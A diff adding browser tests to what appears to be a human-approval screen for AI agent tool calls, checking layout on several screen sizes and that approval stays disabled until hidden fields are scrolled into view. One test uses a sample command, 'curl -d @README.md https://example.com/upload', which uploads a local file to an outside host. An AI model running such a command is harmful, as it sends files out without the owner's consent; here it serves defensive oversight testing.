@@ -227,6 +227,78 @@ async def test_a_phone_shows_the_reason_first_and_a_short_edit_without_a_scroll(
         await press(page, "d", long, box)
 
 
+SEND = "curl -d @README.md https://example.com/upload"
+
+
+@pytest.mark.parametrize(("width", "height"), [(320, 640), (390, 844), (1440, 900)])
+async def test_a_command_that_fits_is_approved_without_a_scroll_on_every_screen(
+    browser: BrowserContext, tmp_path: Path, width: int, height: int
+) -> None:
+    asked = replace(
+        escalation(
+            seconds=PATIENCE, tool="run_command", arguments={"command": SEND}, candidates=(ETC, SRV)
+        ),
+        told=("Sends data to example.com: curl.",),
+        context=(
+            ("Not contained", "curl reaches something outside"),
+            ("It reaches", "example.com"),
+            ("An approval opens for this call", "host example.com"),
+        ),
+    )
+    long = escalation(seconds=PATIENCE, tool="run_command", arguments={"command": "x " * 4000})
+    async with (
+        a_page(browser, tmp_path, width=width, height=height) as (box, page),
+        box.asked(asked, PATIENCE),
+        box.asked(long, PATIENCE),
+    ):
+        await expect(page.locator("#waiting button")).to_have_count(2)
+        await page.click("#waiting button:has-text('curl')")
+        await expect(page.locator("#reason")).to_have_text("Sends data to example.com: curl.")
+        await expect(page.locator("#approve")).to_be_enabled()
+        assert await page.evaluate("[scrollY, document.querySelector('#question').scrollTop]") == [
+            0,
+            0,
+        ]
+        assert await page.evaluate("document.documentElement.scrollWidth") <= width
+        await page.click("#waiting button:has-text('x x x')")
+        await expect(page.locator("#approve")).to_be_disabled()
+        await press(page, "d", long, box)
+        await press(page, "d", asked, box)
+
+
+FRAMES = "() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))"
+
+
+async def test_what_the_buttons_cover_was_not_on_the_screen(
+    browser: BrowserContext, tmp_path: Path
+) -> None:
+    """The fields below the call are opened, and so cover what was free when it was chosen."""
+    lines = "\n".join(f"line {number}" for number in range(80))
+    asked = escalation(seconds=PATIENCE, tool="write", arguments={"content": lines})
+    async with (
+        a_page(browser, tmp_path, width=390, height=844) as (box, page),
+        box.asked(asked, PATIENCE),
+    ):
+        await expect(page.locator("#headline")).to_contain_text("files/write")
+        await page.evaluate("document.querySelector('#more').open = true")
+        await page.evaluate(FRAMES)
+        buttons = await page.locator("#actions").bounding_box()
+        end = await page.locator("#end").bounding_box()
+        assert buttons is not None
+        assert end is not None
+        await page.evaluate("(by) => scrollBy(0, by)", end["y"] - buttons["y"] - 60)
+        for _ in range(5):
+            await page.evaluate(FRAMES)
+        await expect(page.locator("#approve")).to_be_disabled()
+        await page.evaluate("scrollTo(0, document.body.scrollHeight)")
+        await expect(page.locator("#approve")).to_be_enabled()
+        # On a wide screen the fields are always open; a phone folds them again.
+        await page.set_viewport_size({"width": 1200, "height": 900})
+        await page.set_viewport_size({"width": 390, "height": 844})
+        await expect(page.locator("#more")).not_to_have_attribute("open", "")
+        await press(page, "d", asked, box)
+
+
 async def test_a_long_choice_of_what_to_remember_leaves_each_key_on_the_page(
     browser: BrowserContext, tmp_path: Path
 ) -> None:
